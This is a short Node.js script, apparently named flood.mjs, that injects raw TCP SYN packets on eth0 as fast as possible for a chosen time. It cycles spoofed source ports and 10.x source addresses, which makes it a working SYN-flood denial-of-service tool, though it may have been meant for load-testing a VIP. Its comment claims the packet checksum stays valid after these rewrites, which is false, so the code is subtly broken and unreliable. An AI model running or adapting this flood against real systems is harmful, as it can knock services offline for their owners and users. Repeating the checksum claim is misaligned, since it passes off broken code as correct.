// Sends TCP SYNs from ever new ports and addresses to VIP:PORT as fast as it can, for SECONDS. The first line says
// that it has begun, the last how many it sent.
// Usage: node flood.mjs FRAME SECONDS      FRAME: an Ethernet IPv4 TCP SYN in hexadecimal
import cap from 'cap';

const [text = '', seconds = '5'] = process.argv.slice(2);
const frame = Buffer.from(text, 'hex');
const IPV4_SOURCE = 26;
const TCP_SOURCE_PORT = 34;

const wire = new cap.Cap();
wire.open('eth0', 'less 1', 1024 * 1024, Buffer.alloc(65536));
console.log('begun');
const endMs = performance.now() + 1000 * Number(seconds);
let sent = 0;
while (performance.now() < endMs) {
  for (let burst = 0; burst < 100; burst++, sent++) {
    // The checksum stays as it is: neither source nor port change the sum of both.
    frame.writeUInt16BE(sent & 0xffff, TCP_SOURCE_PORT);
    wire.send(frame, frame.length);
  }
  frame.writeUInt16BE(0x0a00 + ((sent >> 16) & 0xff), IPV4_SOURCE);
}
console.log(JSON.stringify({ sent }));
process.exit();
